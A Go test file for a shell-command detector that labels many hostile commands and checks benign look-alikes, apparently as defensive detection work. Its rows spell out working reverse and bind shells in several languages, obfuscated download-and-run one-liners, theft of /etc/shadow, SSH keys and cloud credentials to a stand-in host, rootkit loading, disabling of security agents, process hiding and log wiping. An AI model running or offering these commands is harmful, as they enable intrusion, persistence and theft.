package shell

import (
	"strings"
	"testing"
)

// TestVariants: the same acts in other words. A row without an act is a benign twin.
func TestVariants(t *testing.T) {
	const url = "http://203.0.113.5/n.sh"
	for _, tt := range []struct{ command, act string }{
		// account_write
		{`useradd -u 0 -o -p '$6$x$y' name`, "account_write"},
		{`sudo tee -a /etc/passwd <<< 'x::0:0::/root:/bin/bash'`, "account_write"},
		{`printf 'x:%s:0:0::/root:/bin/sh\n' "$H" >> /etc/passwd`, "account_write"},
		{`perl -pi -e 's/^games:x:5/games:x:0/' /etc/passwd`, "account_write"},
		{`sed -i '/^root:/s/:[^:]*:/:$6$x:/' /etc/shadow`, "account_write"},
		{`usermod -p '$6$a' root`, "account_write"},
		{`vipw -c 2>/dev/null; ed -s /etc/passwd <<< $'a\nx::0:0:::/bin/sh\n.\nw'`, "account_write"},
		{`python3 -c 'open("/etc/passwd","a").write("x::0:0::/:/bin/sh\n")'`, "account_write"},
		{`echo 'x:x:0:0::/:/bin/sh' | cat - >> /etc/passwd`, "account_write"},
		{`awk -F: '{print $1}' /etc/passwd`, ""},
		{`cp /etc/passwd /srv/backup/`, ""},
		{`usermod -L olduser`, ""},
		{`perl -ne 'print if /root/' /etc/passwd`, ""},

		// sudo_write
		{`install -m 440 x /etc/sudoers.d/x`, "sudo_write"},
		{`echo 'x ALL=NOPASSWD: ALL' | EDITOR='tee -a' visudo`, "sudo_write"},
		{`cat >/etc/polkit-1/localauthority/50-local.d/x.pkla <<< x`, "sudo_write"},
		{`usermod -aG sudo games`, ""},
		{`visudo -cf /etc/sudoers`, ""},

		// startup_write
		{`wget -qO /etc/systemd/system/x.service URL`, "startup_write"},
		{`curl -s URL -o /etc/init.d/x`, "startup_write"},
		{`echo x > /etc/update-motd.d/99-x`, "startup_write"},
		{`echo 'ACTION=="add", RUN+="/opt/x"' > /etc/udev/rules.d/99-x.rules`, "startup_write"},
		{`echo /opt/lib >> /etc/ld.so.conf.d/x.conf`, "startup_write"},
		{`tee /usr/lib/systemd/system/y.service < y`, "startup_write"},
		{`ln -s /opt/x.service /etc/systemd/system/multi-user.target.wants/x.service`, "startup_write"},
		{`sed -i '2i /opt/x &' /etc/rc.local`, "startup_write"},
		{`echo /opt/x >> ~/.profile`, "startup_write"},
		{`echo x >> /etc/modules-load.d/x.conf`, "startup_write"},
		{`cat /etc/rc.local`, ""},

		// agents_off
		{`for s in aegis aliyun cloudmonitor; do systemctl stop $s; done`, "agents_off"},
		{`/etc/init.d/rsyslog stop`, "agents_off"},
		{`chkconfig --level 35 auditd off`, "agents_off"},
		{`killall -9 AliYunDunUpdate`, "agents_off"},
		{`ps aux | grep AliYunDun | awk '{print $2}' | xargs kill -9`, "agents_off"},
		{`kill -9 $(pgrep -f AliYunDun)`, "agents_off"},
		{`kill -9 $(pidof falcon-sensor)`, "agents_off"},
		{`apt-get -y purge falcon-sensor`, "agents_off"},
		{`systemctl mask wazuh-agent.service`, "agents_off"},
		{`/var/ossec/bin/wazuh-control stop`, "agents_off"},
		{`/usr/local/cloudmonitor/wrapper/bin/cloudmonitor.sh stop`, "agents_off"},
		{`/usr/local/cloudmonitor/CmsGoAgent.linux-amd64 stop`, "agents_off"},
		{`curl -s http://update.aegis.aliyun.com/download/uninstall.sh | bash`, "agents_off"},
		{`rm -fr /usr/sbin/aliyun-service /usr/local/share/aliyun-assist`, "agents_off"},
		{`cd /usr/local/qcloud/stargate/admin && ./uninstall.sh`, "agents_off"},
		{`snap remove amazon-ssm-agent`, "agents_off"},
		{`systemctl stop systemd-journald.socket`, "agents_off"},
		{`auditctl -e 0`, "agents_off"},
		{`service rsyslog restart`, ""},
		{`/etc/init.d/rsyslog rotate`, ""},
		{`systemctl status auditd`, ""},
		{`ps aux | grep rsyslogd`, ""},
		{`kill -HUP $(cat /run/rsyslogd.pid)`, ""},
		{`kill -HUP $(pidof rsyslogd)`, ""},

		// guard_off
		{`echo 0 > /sys/fs/selinux/enforce`, "guard_off"},
		{`iptables -P INPUT ACCEPT; iptables -X; iptables -F`, "guard_off"},
		{`nft flush ruleset`, "guard_off"},
		{`echo SELINUX=disabled > /etc/selinux/config`, "guard_off"},
		{`iptables -t nat -F MYCHAIN`, ""},

		// module_load
		{`busybox insmod /opt/r.ko`, "module_load"},
		{`modprobe -d /opt/x rk`, "module_load"},
		{`cp r.ko /lib/modules/$(uname -r)/extra/ && depmod -a && modprobe r`, "module_load"},
		{`kmod insert /tmp/a.ko`, ""},
		{`modprobe -r nouveau`, ""},

		// process_hide
		{`mount --bind /var/empty /proc/$(pgrep x)`, "process_hide"},
		{`mount -t tmpfs none /proc/$PID`, "process_hide"},
		{`mkdir /tmp/e; mount -B /tmp/e /proc/$!`, "process_hide"},
		{`install -m 755 fake /usr/bin/top`, "process_hide"},
		{`cat > /usr/local/bin/ps <<'E'
/bin/ps "$@" | grep -v x
E`, "process_hide"},
		{`alias ps='ps | grep -v xmr'`, "alias_filter"},
		{`top() { /usr/bin/top -b "$@" | sed '/kdevtmp/d'; }`, "process_hide"},
		{`ln -sf /opt/fake /bin/ss`, "process_hide"},
		{`wget -qO /usr/bin/netstat URL`, "process_hide"},
		{`mount -o remount,hidepid=2 /proc`, ""},
		{`mount -t proc proc /srv/chroot/proc`, ""},
		{`mount --bind /proc /srv/chroot/proc`, ""},

		// setuid_set
		{`chmod +s /bin/dash`, "setuid_set"},
		{`chmod -R ug+s /opt/x`, "setuid_set"},
		{`chmod a+xs /opt/x`, "setuid_set"},
		{`install -o root -m4755 x /usr/bin/x`, "setuid_set"},
		{`setcap cap_dac_override,cap_setuid=eip /usr/bin/tar`, "setuid_set"},
		{`chmod u-s /bin/mount`, ""},
		{`chmod 1777 /srv/tmp`, ""},

		// timestomp
		{`touch --reference=/bin/cat /usr/bin/x`, "timestomp"},
		{`touch -amt 201501010101 /etc/cron.d/x`, "timestomp"},
		{`touch --date='2 years ago' /usr/lib/x.so`, "timestomp"},
		{`curl -so /srv/www/a.php URL; touch -r index.php /srv/www/a.php`, "timestomp"},
		{`python3 -c 'import os; os.utime("/usr/bin/x",(1,1))'`, ""},
		{`date -s '2019-01-01'; cp x /usr/bin/x; hwclock -s`, ""},

		// send_secret
		{`curl -d @/etc/shadow URL`, "send_secret"},
		{`wget --post-file=/root/.ssh/id_rsa URL`, "send_secret"},
		{`base64 -w0 /etc/shadow | curl -d @- URL`, "send_secret"},
		{`scp /etc/shadow u@203.0.113.5:/x`, "send_secret"},
		{`curl -F "f=@$HOME/.aws/credentials" URL`, "send_secret"},
		{`nc 203.0.113.5 99 < /etc/shadow`, "send_secret"},
		{`cat /etc/shadow > /dev/tcp/203.0.113.5/99`, "send_secret"},
		{`tar cz ~/.ssh ~/.aws | nc 203.0.113.5 99`, "send_secret"},
		{`curl "URL?p=$(cat -)&u=$PAM_USER"`, "send_secret"},
		{`T=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r); curl -d "$T" URL`, "send_secret"},
		{`cp /root/.ssh/id_rsa /tmp/k; curl -T /tmp/k URL`, "send_secret"},
		{`env | curl -d @- URL`, ""},
		{`T=$(curl -s -X PUT http://169.254.169.254/latest/api/token); curl -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/instance-id`, ""},
		{`rsync -a /root/.ssh backup@10.0.0.9:/b/`, ""},
		{`perl -e 'open(F,"<","/etc/passwd");print <F>'`, ""},
		{`pkill -HUP rsyslogd; kill -0 $(pidof auditd)`, ""},
		{`python3 -c 'print(open("/etc/passwd","r").read())'`, ""},
		{`/etc/init.d/nginx stop`, ""},
		{`install -m0644 a /srv/a`, ""},
		{`perl -pi -e 's/a/b/' /srv/app.conf`, ""},
		{`mount -o bind /srv/a /srv/b; /srv/b/run`, ""},
		{`ssh -i ~/.ssh/id_rsa u@203.0.113.5 uptime`, ""},
		{`scp -i ~/.ssh/id_ed25519 /srv/a u@203.0.113.5:/x`, ""},
		{`rsync -e 'ssh -i /root/.ssh/id_rsa' -a /srv/ u@h:/b/`, ""},

		// bind_shell
		{`nc -nlvp 4444 -c bash`, "bind_shell"},
		{`while :; do nc -l -p 4444 -e /bin/bash; done`, "bind_shell"},
		{`rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -l 4444 > /tmp/f`, "bind_shell"},
		{`socat EXEC:sh TCP4-LISTEN:99,fork`, "bind_shell"},
		{`socat OPENSSL-LISTEN:443,cert=/x.pem,verify=0,fork EXEC:/bin/sh`, "bind_shell"},
		{`python3 -c 'import socket,os;s=socket.socket();s.bind(("",99));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in(0,1,2)];os.system("/bin/sh")'`, "bind_shell"},
		{`socat TCP-LISTEN:80,fork TCP:10.0.0.2:80`, ""},

		// reverse_shell
		{`exec 5<>/dev/tcp/203.0.113.5/99; cat <&5 | while read l; do $l 2>&5 >&5; done`, "pipe_to_shell"},
		{`0<&196;exec 196<>/dev/tcp/203.0.113.5/99; sh <&196 >&196 2>&196`, "reverse_shell"},
		{`telnet 203.0.113.5 99 | /bin/sh | telnet 203.0.113.5 98`, "pipe_to_shell"},
		{`socat exec:'bash -li',pty,stderr tcp:203.0.113.5:99`, "reverse_shell"},
		{`perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(99,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i")'`, "reverse_shell"},
		{`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.5",99).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`, "reverse_shell"},
		{`php -r '$s=fsockopen("203.0.113.5",99);exec("sh <&3 >&3 2>&3");'`, "reverse_shell"},
		{`lua -e 'require("socket");t=socket.tcp();t:connect("203.0.113.5","99");os.execute("/bin/sh -i <&3 >&3")'`, "reverse_shell"},
		{`node -e 'var n=require("net"),c=require("child_process").spawn("/bin/sh");n.connect(99,"203.0.113.5",function(){this.pipe(c.stdin);c.stdout.pipe(this)})'`, "reverse_shell"},
		{`bash -i >/dev/udp/203.0.113.5/53 0>&1`, "reverse_shell"},
		{`bash -c 'exec bash -i &>/dev/tcp/203.0.113.5/99 <&1'`, "reverse_shell"},

		// history, keys, kill
		{`export HISTSIZE=0`, "history_off"},
		{`ln -sf /dev/null ~/.bash_history`, "history_off"},
		{`set +o history`, "history_off"},
		{`cat /dev/null > ~/.bash_history`, "history_off"},
		{`HISTFILE=/dev/null`, "history_off"},
		{`mkdir -p /root/.ssh; cat k.pub | tee -a /root/.ssh/authorized_keys`, "key_write"},
		{`curl -s URL >> ~/.ssh/authorized_keys`, "key_write"},
		{`sed -i '1i ssh-rsa AAAA x' /root/.ssh/authorized_keys2`, "key_write"},
		{`pkill -f xmrig`, "kill_list"},
		{`killall kinsing`, "kill_list"},
		{`ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs -I % kill -9 %`, "kill_list"},
		{`for p in kdevtmpfsi kinsing xmr; do pkill -9 $p; done`, "kill_list"},
		{`pkill nginx`, ""},
		{`killall -q dhclient`, ""},

		// running
		{`curl -s URL | rev | sh`, "pipe_to_shell"},
		{`wget -qO- URL | tr a-z A-Z | bash`, "pipe_to_shell"},
		{`echo 'hs | 5.311.0.302//:ptth lruc' | rev | sh`, "pipe_to_shell"},
		{`echo 6375726c20687474703a2f2f3230332e302e3131332e352f61207c207368 | xxd -r -p | sh`, "pipe_to_shell"},
		{`$'\x63\x75\x72\x6c' URL | $'\163h'`, "pipe_to_shell"},
		{`set -- curl URL; "$@" | sh`, "pipe_to_shell"},
		{`sh -c "$(curl -fsSL URL)"`, "pipe_to_shell"},
		{`bash <(curl -s URL)`, "pipe_to_shell"},
		{`. <(wget -qO- URL)`, "pipe_to_shell"},
		{`eval "$(curl -s URL)"`, "pipe_to_shell"},
		{`sh <<< "$(curl -s URL)"`, "pipe_to_shell"},
		{"`curl -s URL`", "pipe_to_shell"},
		{`exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /x HTTP/1.0\r\n\r\n' >&3; sed '1,/^\r$/d' <&3 | sh`, "pipe_to_shell"},
		{`python3 -c "$(curl -s URL)"`, "pipe_to_shell"},
		{`curl -s URL | python3 -`, "pipe_to_shell"},
		{`curl -s URL | sudo -E bash -`, "pipe_to_shell"},
		{`curl -s URL | nohup setsid sh &`, "pipe_to_shell"},
		{`curl -s URL | tee /srv/log | bash`, "pipe_to_shell"},
		{`curl -s URL | xargs -0 sh -c`, "pipe_to_shell"},
		{`env -S 'sh -c "curl URL|sh"'`, "pipe_to_shell"},
		{`nsenter -t 1 -m -u -i -n sh -c 'curl URL | sh'`, "pipe_to_shell"},
		{`chroot /host sh -c 'curl URL | sh'`, "pipe_to_shell"},
		{`systemd-run --on-active=10 sh -c 'curl URL | sh'`, "pipe_to_shell"},
		{`echo 'curl URL | sh' | at now`, "pipe_to_shell"},
		{`at now <<< 'curl URL|sh'`, "pipe_to_shell"},
		{`batch <<E
curl URL | sh
E`, "pipe_to_shell"},
		{`screen -dmS x bash -c 'curl URL | sh'`, "pipe_to_shell"},
		{`tmux new -d 'curl URL | sh'`, "pipe_to_shell"},
		{`flock -n /run/x -c 'curl URL|sh'`, "pipe_to_shell"},
		{`lua -e 'os.execute("curl URL | sh")'`, "pipe_to_shell"},
		{`perl -e 'system("curl URL | sh")'`, "pipe_to_shell"},
		{`python3 -c 'import os;os.system("curl URL | sh")'`, "pipe_to_shell"},
		{`ruby -e 'exec "curl URL | sh"'`, "pipe_to_shell"},
		{`php -r 'shell_exec("curl URL | sh");'`, "pipe_to_shell"},
		{`node -e 'require("child_process").execSync("curl URL | sh")'`, "pipe_to_shell"},
		{`openssl enc -d -aes-256-cbc -k x -in /opt/a | sh`, "decode_exec"},
		{`gpg -d --batch --passphrase x /opt/a.gpg | sh`, "decode_exec"},
		{`tail -c +3000 /usr/share/a.png | sh`, "decode_exec"},
		{`python3 -c 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'`, "decode_exec"},
		{`perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgMQ=="))'`, "decode_exec"},
		{`base64 -d /opt/x > /opt/y; chmod +x /opt/y; /opt/y`, "decode_exec"},
		{`sh /net/203.0.113.5/x/run.sh`, "fetch_exec"},
		{`mount -t nfs 203.0.113.5:/x /mnt && /mnt/run.sh`, "fetch_exec"},
		{`sshfs u@203.0.113.5:/x /mnt; sh /mnt/a`, "fetch_exec"},
		{`smbclient //203.0.113.5/s -c 'get a /opt/a'; /opt/a`, "fetch_exec"},
		{`ftp -o /opt/a ftp://203.0.113.5/a; sh /opt/a`, "fetch_exec"},
		{`sftp u@203.0.113.5:/a /opt/a; sh /opt/a`, "fetch_exec"},
		{`wget -P /opt URL; bash /opt/n.sh`, "fetch_exec"},
		{`cd /opt; curl -sO URL; chmod +x n.sh; ./n.sh`, "fetch_exec"},
		{`curl -s URL | tar xz -C /opt; /opt/x/run`, "fetch_exec"},
		{`wget -q URL -O - > /opt/x; sh /opt/x`, "fetch_exec"},
		{`pip install http://203.0.113.5/a.tar.gz`, ""},
		{`curl -s URL > /srv/data.json; python3 /srv/app/load.py`, ""},
		{`mount -t nfs 10.0.0.5:/srv /mnt/backup && rsync -a /srv /mnt/backup/`, ""},
		{`gpg -d /srv/a.gpg > /srv/a`, ""},
		{`tail -n +5 /srv/a.csv | sort`, ""},
	} {
		command := strings.ReplaceAll(tt.command, "URL", url)
		f := Analyze(command)
		if tt.act != "" && !f.Has(tt.act) {
			t.Errorf("%s: %v, want %s", command, f.Traits, tt.act)
		}
		for _, a := range f.Traits {
			if tt.act == "" && a != "fetch" && a != "background" {
				t.Errorf("%s: it is said to be %s", command, a)
			}
		}
	}
}
